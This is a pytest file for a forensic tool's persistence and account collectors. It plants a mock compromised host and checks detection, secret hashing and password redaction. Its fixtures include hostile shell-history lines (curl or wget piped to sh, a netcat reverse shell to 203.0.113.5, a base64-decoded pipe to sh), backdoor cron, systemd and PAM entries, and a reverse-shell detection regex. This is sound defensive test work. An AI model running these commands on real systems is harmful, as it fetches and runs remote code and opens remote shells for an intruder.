"""The persistence and accounts collectors against a host planted by the test: the real
``preserve`` command runs in a private mount namespace where /etc, /home, /root,
/var/spool, /var/log and the PAM module directory are the test's own trees (this
machine's are never read or touched). Each planted persistence entry, account and history
line must be an artifact and a finding; the secrets must be hashed and never stored; an
examiner's rule file must add its finding."""

from __future__ import annotations

import hashlib
import json
import os
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import PRESERVE_CODE, ROOT, journal_records, preserve, requires_root, verify
from evidence_factory import copy_evidence, forge

from manifests.signing import Signer

KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET-HOST-KEY\n-----END OPENSSH PRIVATE KEY-----\n"
SHADOW = b"root:$6$saltsalt$SECRETHASHVALUE:19000:0:99999:7:::\n"
TLS_KEY = b"-----BEGIN PRIVATE KEY-----\nSECRET-TLS-MATERIAL\n-----END PRIVATE KEY-----\n"
MARKERS = (b"SECRET-HOST-KEY", b"SECRETHASHVALUE", b"SECRET-TLS-MATERIAL")
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/bin/bash
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
postgres:x:120:120:PostgreSQL:/var/lib/postgresql:/bin/bash
toor:x:0:0::/root:/bin/sh
alice:x:1000:1000:Alice:/home/alice:/bin/bash
"""
EXAMINER_RULES = """
[[rule]]
id = "examiner-netcat-shell"
fact = "history-line"
severity = "HIGH"
why = "A netcat that hands out a shell is a reverse shell."
message = "{user} ran a netcat shell: {line}"
regex = { line = 'nc\\s.*-e\\s*/bin/(ba)?sh' }
record = ["user", "line"]

[[rule]]
id = "examiner-admin-tools"
fact = "history-line"
severity = "LOW"
why = "Database and repository access from a shell shows what an intruder reached."
message = "{user} ran: {line}"
regex = { line = '^(mysql|git clone|export|sshpass)' }
record = ["user", "line"]
"""
# Passwords typed on command lines: stored byte-exact in the copied history, never quoted
# in a finding, the closing box or the report (collectors/redact.py).
TYPED_SECRETS = ("Hunter2pw", "S3cretPW", "wJalrXUtnFEMI-K7MDENG", "gitpa55", "sshpa55")
SECRET_HISTORY = (
    "curl -su admin:Hunter2pw http://203.0.113.9/i.sh | sh\n"
    "mysql -uroot -pS3cretPW -e 'drop database shop'\n"
    "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI-K7MDENG\n"
    "git clone https://bob:gitpa55@git.example/r.git\n"
    "sshpass -p sshpa55 ssh root@10.0.0.1 'wget -O- http://x.example/a | sh'\n"
)


def _write(path: Path, data: str | bytes, mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)
    return path


def _plant(host: Path, outside: Path) -> None:
    etc = host / "etc"
    _write(etc / "passwd", PASSWD)
    _write(etc / "group", "root:x:0:\n")
    _write(etc / "shadow", SHADOW, 0o640)
    _write(etc / "ssh/ssh_host_ed25519_key", KEY, 0o600)
    _write(etc / "ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAAC3Nz host\n")
    _write(etc / "ssl/certs/bundle.pem", TLS_KEY)
    _write(
        etc / "ssl/certs/ca.pem", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
    )
    _write(
        etc / "ssh/sshd_config",
        f"Include {outside}/sshd-extra.conf\nAuthorizedKeysFile .ssh/authorized_keys "
        f"{outside}/keys/%u /etc/ssh/keys/%u\n",
    )
    _write(etc / "ssh/keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIETC in-etc\n")
    _write(outside / "sshd-extra.conf", "PermitRootLogin yes\n")
    _write(outside / "keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOUT attacker@outside\n")
    _write(etc / "crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    _write(etc / "cron.d/updater", "* * * * * root /tmp/.x/run.sh >/dev/null 2>&1\n")
    _write(etc / "systemd/system/backdoor.service", "[Service]\nExecStart=/dev/shm/.b/agent -d\n")
    _write(
        etc / "systemd/system/backdoor.timer", "[Timer]\nOnBootSec=5min\nUnit=backdoor.service\n"
    )
    wants = etc / "systemd/system/timers.target.wants"
    wants.mkdir(parents=True)
    (wants / "backdoor.timer").symlink_to("/etc/systemd/system/backdoor.timer")
    # The namespace's own programs load it too: a library every one of them has loaded
    # anyway keeps it harmless.
    _write(etc / "ld.so.preload", f"{LIBC}\n")
    _write(etc / "udev/rules.d/99-usb.rules", 'ACTION=="add", RUN+="/var/tmp/.u/hook %k"\n')
    _write(etc / "rc.local", "#!/bin/sh\n/dev/shm/.r &\nexit 0\n", 0o755)
    _write(etc / "pam.d/sshd", "auth sufficient pam_backdoor.so\n@include common-auth\n")
    _write(etc / "profile", "if [ -d /etc/profile.d ]; then :; fi\n")
    _write(host / "security/pam_backdoor.so", b"\x7fELF fake module")
    root = host / "root"
    _write(root / ".profile", "PATH=$PATH:/root/bin\nunset HISTFILE\n")
    _write(root / ".bash_profile", "export DB_PASSWORD=S3cretPW; unset HISTFILE\n")
    _write(root / ".zsh_history", ": 1764000000:0;echo Y3VybCB4IHwgc2gK | base64 -d | sh\n")
    alice = host / "home/alice"
    _write(
        alice / ".bashrc",
        "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n(/dev/shm/.cache/upd >/dev/null 2>&1 &)\n",
    )
    _write(alice / ".cache/.h", "ls\ncurl -s http://203.0.113.9/a.sh | sh\n")
    _write(alice / ".rhosts", "+ +\n")
    _write(
        alice / ".bash_history",
        "#1764000000\nwget -O- http://x.example | bash\nnc 203.0.113.5 4444 -e /bin/sh\nls -la\n"
        + SECRET_HISTORY,
    )
    _write(
        alice / ".ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGOOD alice@laptop\n"
        'command="/tmp/.k/sh",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAD evil\n',
    )
    _write(host / "spool/cron/crontabs/alice", "@reboot /home/alice/.local/bin/sync\n")
    lastlog = bytearray(1001 * 292)
    struct.pack_into("<i32s256s", lastlog, 1000 * 292, 1764000000, b"pts/3", b"198.51.100.7")
    _write(host / "log/lastlog", bytes(lastlog))
    faillog = bytearray(32)
    struct.pack_into("<hh12sqq", faillog, 0, 3, 0, b"ssh:notty", 1764000100, 0)
    _write(host / "log/faillog", bytes(faillog))


def _run_in_namespace(host: Path, out: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The real CLI, with the planted trees mounted over the host's own in a private
    mount namespace that ends with the command."""
    security = "/usr/lib/x86_64-linux-gnu/security"
    # The interpreter may live under /root (pyenv): kept reachable inside the planted home.
    python = Path(os.path.realpath(sys.executable))
    keep = ""
    if python.is_relative_to("/root"):
        top = Path("/root", python.relative_to("/root").parts[0])
        (host / "root" / top.name).mkdir(exist_ok=True)
        keep = f"mount --bind {top} {host}/root/{top.name}"
    script = f"""set -e
mount --bind {host}/etc /etc
mount --bind {host}/home /home
{keep}
mount --rbind {host}/root /root
mount -t tmpfs tmpfs /var/spool && cp -a {host}/spool/. /var/spool/
mount -t tmpfs tmpfs /var/log && cp -a {host}/log/. /var/log/
mount --bind {host}/security {security}
exec "$@"
"""
    argv = [sys.executable, "-c", PRESERVE_CODE, "--json", "-o", str(out), *args]
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C.UTF-8"}
    return subprocess.run(
        ["unshare", "-m", "--propagation", "private", "sh", "-c", script, "sh", *argv],
        capture_output=True, timeout=300, cwd=ROOT, env=env,
    )  # fmt: skip


@pytest.fixture(scope="module")
def collected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict]]:
    if os.geteuid() != 0:
        pytest.skip("needs root for a private mount namespace")
    if not os.path.exists(LIBC) or not os.path.isdir("/usr/lib/x86_64-linux-gnu/security"):
        pytest.skip("needs the x86-64 Debian library layout")
    base = tmp_path_factory.mktemp("persist")
    host, outside = base / "host", base / "outside"
    (host / "home").mkdir(parents=True)
    _plant(host, outside)
    rules = _write(base / "mine.toml", EXAMINER_RULES)
    result = _run_in_namespace(
        host, base / "out", "--only", "persistence,accounts", "--rules", str(rules)
    )
    assert result.returncode in (0, 1), result.stderr.decode()
    evidence = Path(json.loads(result.stdout)["evidence_dir"])
    return evidence, journal_records(evidence)


def _findings(records: list[dict]) -> dict[tuple[str, str], dict]:
    return {
        (r["rule"], r["source"]["path"] + (f":{r['line_no']}" if "line_no" in r else "")): r
        for r in records
        if r.get("event") == "finding"
    }


@requires_root
def test_every_planted_entry_is_a_finding(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    found = _findings(records)
    out = Path(str(evidence)).parent.parent / "outside"
    expected = {
        ("persistence-writable-target", "/etc/cron.d/updater"),
        ("persistence-writable-target", "/etc/systemd/system/backdoor.service"),
        ("persistence-writable-target", "/etc/udev/rules.d/99-usb.rules"),
        ("persistence-writable-target", "/etc/rc.local"),
        ("persistence-writable-target", "/home/alice/.ssh/authorized_keys:2"),
        ("persistence-writable-target", f"{out}/keys/alice:1"),
        ("persistence-changed-in-window", "/etc/systemd/system/backdoor.timer"),
        ("persistence-changed-in-window", "/etc/crontab"),
        ("persistence-changed-in-window", "/etc/ssh/keys/alice:1"),  # AuthorizedKeysFile
        ("persistence-changed-in-window", "/home/alice/.ssh/authorized_keys:1"),
        ("persistence-changed-in-window", "/var/spool/cron/crontabs/alice"),
        ("persistence-writable-target", "/home/alice/.bashrc"),
        ("persistence-changed-in-window", "/home/alice/.rhosts"),
        ("ld-preload-present", "/etc/ld.so.preload"),
        ("pam-module-unpackaged", "/etc/pam.d/sshd"),
        ("history-disabled", "/root/.profile:2"),
        ("uid0-account", "/etc/passwd:6"),
        ("system-account-login-shell", "/etc/passwd:3"),
        ("history-download-and-run", "/home/alice/.bash_history:2"),
        ("history-download-and-run", "/home/alice/.cache/.h:2"),
        ("history-download-and-run", "/root/.zsh_history:1"),
        ("examiner-netcat-shell", "/home/alice/.bash_history:3"),
    }
    assert expected <= set(found), sorted(expected - set(found))
    # Not flagged: root, the nologin accounts, postgres (its package gives it a shell),
    # alice's harmless history lines, the planted but harmless /etc/profile.
    assert not [k for k in found if k[1] in ("/etc/passwd:1", "/etc/passwd:2", "/etc/passwd:4")]
    assert ("system-account-login-shell", "/etc/passwd:5") not in found
    assert not [k for k in found if k[1] in ("/home/alice/.bash_history:4",)]
    assert ("persistence-writable-target", "/etc/profile") not in found
    for finding in found.values():  # each is linked to its stored evidence and says why
        assert finding["why"] and finding["severity"] in ("HIGH", "MEDIUM", "LOW")
        assert (evidence / finding["artifact"]).is_file(), finding
    cron = found[("persistence-writable-target", "/etc/cron.d/updater")]
    assert cron["severity"] == "HIGH" and "/tmp/.x/run.sh" in cron["targets"]
    assert (evidence / cron["artifact"]).read_bytes().startswith(b"* * * * * root /tmp/.x")
    history = found[("history-download-and-run", "/home/alice/.cache/.h:2")]
    assert history["artifact"] == "artifacts/accounts/home/alice/.cache/.h"
    assert verify(evidence).returncode == 0


@requires_root
def test_artifacts_units_and_parsed_logs(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    stored = {r["source"]["path"] for r in records if r["type"] == "artifact" and "source" in r}
    for path in (
        "/etc/passwd", "/etc/crontab", "/etc/ssh/sshd_config", "/etc/ssl/certs/ca.pem",
        "/etc/ssh/ssh_host_ed25519_key.pub", "/home/alice/.bashrc", "/root/.profile",
        "/home/alice/.ssh/authorized_keys", "/var/spool/cron/crontabs/alice",
        "/home/alice/.bash_history", "/var/log/lastlog", "/var/log/faillog",
    ):  # fmt: skip
        assert path in stored, path
    outside = evidence.parent.parent / "outside"
    assert f"{outside}/sshd-extra.conf" in stored  # an Include outside /etc
    units = json.loads((evidence / "artifacts/persistence/systemd-units.json").read_bytes())
    timer = next(u for u in units if u["unit"] == "backdoor.timer")
    assert timer["enabled"] is True
    assert (
        timer["enabled_by"][0]["link"] == "/etc/systemd/system/timers.target.wants/backdoor.timer"
    )
    lastlog = json.loads((evidence / "artifacts/accounts/lastlog.json").read_bytes())
    assert lastlog == [{
        "uid": 1000, "user": "alice", "time": "2025-11-24T16:00:00.000000000Z",
        "time_s": 1764000000, "line": "pts/3", "host": "198.51.100.7",
    }]  # fmt: skip
    faillog = json.loads((evidence / "artifacts/accounts/faillog.json").read_bytes())
    assert faillog[0]["user"] == "root" and faillog[0]["failures"] == 3
    histories = json.loads((evidence / "artifacts/accounts/histories.json").read_bytes())
    custom = next(h for h in histories if h["path"] == "/home/alice/.cache/.h")
    assert custom["histfile_from"] == "/home/alice/.bashrc"
    links = (evidence / "artifacts/persistence/links.jsonl").read_text().splitlines()
    assert any(json.loads(line)["path"].endswith("wants/backdoor.timer") for line in links)


@requires_root
def test_secrets_are_hashed_never_stored(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    secrets = {r["source"]["path"]: r for r in records if r.get("secret")}
    for path, content in (
        ("/etc/shadow", SHADOW),
        ("/etc/ssh/ssh_host_ed25519_key", KEY),
        ("/etc/ssl/certs/bundle.pem", TLS_KEY),
    ):
        assert secrets[path]["type"] == "skipped"
        assert secrets[path]["sha256"] == hashlib.sha256(content).hexdigest()
        assert secrets[path]["stat"]["size"] == len(content)
    for f in evidence.rglob("*"):
        if f.is_file():
            data = f.read_bytes()
            # not in a copy, a listing or the journal (AWS_SECRET_ACCESS_KEY, a name, may be)
            assert not [m for m in MARKERS if m in data], f


def test_a_broken_rule_file_stops_the_run_before_it_collects(tmp_path: Path) -> None:
    bad = _write(tmp_path / "bad.toml", '[[rule]]\nid = "x"\nfact = "account"\nseverity = "HIGH"\n'
                 'why = "w"\nmessage = "{nosuch}"\n')  # fmt: skip
    result = preserve("-o", tmp_path / "out", "--only", "accounts", "--rules", bad)
    assert result.returncode == 2
    assert b"'nosuch', not a field" in result.stderr and b"Traceback" not in result.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


@requires_root
def test_typed_passwords_are_redacted_in_findings_and_report(
    collected: tuple[Path, list[dict]],
) -> None:
    evidence, records = collected
    found = _findings(records)
    history = "/home/alice/.bash_history"
    # Line numbers: the #epoch line, wget, nc, ls, then the secrets.
    curl = found[("history-download-and-run", f"{history}:5")]
    assert curl["line"] == "curl -su admin:[REDACTED] http://203.0.113.9/i.sh | sh"
    assert curl["redacted"].startswith("1 likely secret") and "[REDACTED]" in curl["message"]
    quoted = {n: found[("examiner-admin-tools", f"{history}:{n}")]["line"] for n in (6, 7, 8, 9)}
    assert quoted == {
        6: "mysql -uroot -p[REDACTED] -e 'drop database shop'",
        7: "export AWS_SECRET_ACCESS_KEY=[REDACTED]",
        8: "git clone https://bob:[REDACTED]@git.example/r.git",
        9: "sshpass -p [REDACTED] ssh root@10.0.0.1 'wget -O- http://x.example/a | sh'",
    }
    assert ("history-download-and-run", f"{history}:9") in found  # judged as typed
    profile = found[("history-disabled", "/root/.bash_profile:1")]
    assert profile["line"] == "export DB_PASSWORD=[REDACTED]; unset HISTFILE"
    # The copy stays byte-exact evidence: the secrets are there, and only there.
    copy = (evidence / curl["artifact"]).read_bytes()
    assert copy.endswith(SECRET_HISTORY.encode())
    copies = {evidence / curl["artifact"], evidence / profile["artifact"]}
    for f in evidence.rglob("*"):  # the journal, entries.jsonl, every other listing
        if f.is_file() and f not in copies:
            data = f.read_bytes()
            assert not [s for s in TYPED_SECRETS if s.encode() in data], f
    for fmt in ("md", "html", "json"):
        result = preserve("report", evidence, "--format", fmt)
        assert result.returncode == 0, result.stderr.decode()
        for secret in TYPED_SECRETS:
            assert secret.encode() not in result.stdout, (fmt, secret)
        assert b"REDACTED" in result.stdout, fmt  # Markdown writes \\[REDACTED\\]


@requires_root
def test_the_report_redacts_a_finding_an_older_agent_recorded_as_typed(
    collected: tuple[Path, list[dict]], tmp_path: Path
) -> None:
    """Evidence from before redaction (or a plug-in's own findings) quotes the password:
    the report still hides it."""
    evidence = copy_evidence(collected[0], tmp_path)

    def unredact(records: list[dict]) -> None:
        for r in records:
            if r.get("rule") == "history-download-and-run" and r.get("line_no") == 5:
                r["line"] = r["line"].replace("[REDACTED]", "Hunter2pw")
                r["message"] = r["message"].replace("[REDACTED]", "Hunter2pw")
                r.pop("redacted")

    forge(evidence, Signer.generate_ephemeral(), unredact)
    assert b"admin:Hunter2pw" in (evidence / "custody.jsonl").read_bytes()
    for fmt in ("md", "json"):
        result = preserve("report", evidence, "--format", fmt)
        assert b"Hunter2pw" not in result.stdout and b"admin:" in result.stdout, fmt
